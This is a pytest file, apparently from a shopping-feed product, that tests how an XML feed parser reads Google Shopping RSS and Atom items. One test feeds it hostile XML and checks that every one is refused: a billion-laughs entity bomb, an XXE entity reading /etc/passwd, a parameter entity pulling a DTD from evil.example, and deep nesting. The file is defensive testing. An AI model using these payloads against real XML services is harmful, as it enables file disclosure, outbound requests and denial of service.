"""Feeds in XML: as shops write them for Google, and as nobody should ever be let in."""

import time
import tracemalloc
from collections.abc import Iterator

import pytest

from floorwalker.catalogue.feeds.goods import goods_in
from floorwalker.catalogue.feeds.table import NotATable, rows_in
from floorwalker.catalogue.model import Goods
from tests.catalogue.test_feeds import SHELF

ITEM = """<item><g:id>41</g:id><title>Bog &amp; boots</title><g:title>Another</g:title>
 <link>https://shoes.example/boots</link><g:price>99.50 EUR</g:price><g:availability>in_stock</g:availability>
 <g:shipping><g:country>FI</g:country><g:price>4.90 EUR</g:price></g:shipping>
 <description><![CDATA[<b>Warm</b>]]></description><stock branch="Turku">3</stock><g:quantity>14</g:quantity></item>"""
RSS = '<?xml version="1.0"?>\n<rss xmlns:g="http://base.google.com/ns/1.0" version="2.0"><channel>{}</channel></rss>'
ATOM = (
    '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="http://base.google.com/ns/1.0"><title>Shoes</title>'
    '<entry><g:id>7</g:id><title>Socks</title><link href="https://shoes.example/socks"/><g:price>5 EUR</g:price>'
    "</entry></feed>"
)
LAUGHS = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + RSS.format(
    "<item><g:id>1</g:id><title>&b;</title></item>"
).removeprefix('<?xml version="1.0"?>\n')
FILE = (
    '<!DOCTYPE rss [<!ENTITY own SYSTEM "file:///etc/passwd">]><rss><item><id>1</id><title>&own;</title></item></rss>'
)
PARAMETER = '<!DOCTYPE rss [<!ENTITY % far SYSTEM "http://evil.example/x.dtd"> %far;]><rss/>'


def read(text: str | bytes) -> list[Goods]:
    found = list(goods_in(text.encode() if isinstance(text, str) else text, SHELF))
    assert all(isinstance(one, Goods) for one in found), found
    return [one for one in found if isinstance(one, Goods)]


def test_an_item_of_rss_is_read_by_its_own_values_and_not_by_what_lies_deeper() -> None:
    [boots] = read(RSS.format(ITEM))

    assert (boots.product.id, boots.product.name, boots.product.url) == (
        "41",
        "Bog & boots",
        "https://shoes.example/boots",
    )
    assert boots.product.price is not None
    assert (boots.product.price.minor, boots.product.availability) == (9950, "in_stock")
    assert {(one.branch_id is None, one.quantity) for one in boots.stock} == {(True, 14), (False, 3)}


@pytest.mark.parametrize("encoded", [ATOM, "\ufeff" + ATOM, ATOM.encode("utf-16"), "\n  " + ATOM])
def test_an_entry_of_atom_is_read_with_its_link(encoded: str | bytes) -> None:
    [socks] = read(encoded)

    assert (socks.product.id, socks.product.name, socks.product.url) == ("7", "Socks", "https://shoes.example/socks")


@pytest.mark.parametrize(
    "hostile", [LAUGHS, FILE, PARAMETER, "<rss>" + "<a>" * 100_000, '<?xml encoding="klingon"?><a/>']
)
def test_whoever_declares_entities_or_goes_on_for_ever_is_refused(hostile: str) -> None:
    with pytest.raises(NotATable):
        list(rows_in(hostile.encode()))


def test_a_feed_that_breaks_off_is_refused_in_the_end_and_what_came_before_stays_read() -> None:
    rows = rows_in(RSS.format(ITEM * 2_000).encode()[:-40])

    read_before = list(until_refused(rows))

    assert len(read_before) in range(1_900, 2_001)


def test_a_long_feed_is_read_without_being_held_a_second_time() -> None:
    content = RSS.format(ITEM + "<item><g:id>1</g:id><title>" + "x" * 1_000_000 + "</title></item>").encode()
    many = RSS.format(ITEM * 20_000).encode()
    tracemalloc.start()
    begun = time.monotonic()

    lengths = [
        max(map(len, values.values())) for _, values in (row for row in rows_in(content) if isinstance(row, tuple))
    ]
    rows = sum(1 for _ in rows_in(many))

    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (max(lengths), rows) == (10_000, 20_000)
    assert peak < 4_000_000 + 4 * 65_536
    assert time.monotonic() - begun < 60


def until_refused(rows: Iterator[object]) -> Iterator[object]:
    with pytest.raises(NotATable):
        yield from rows
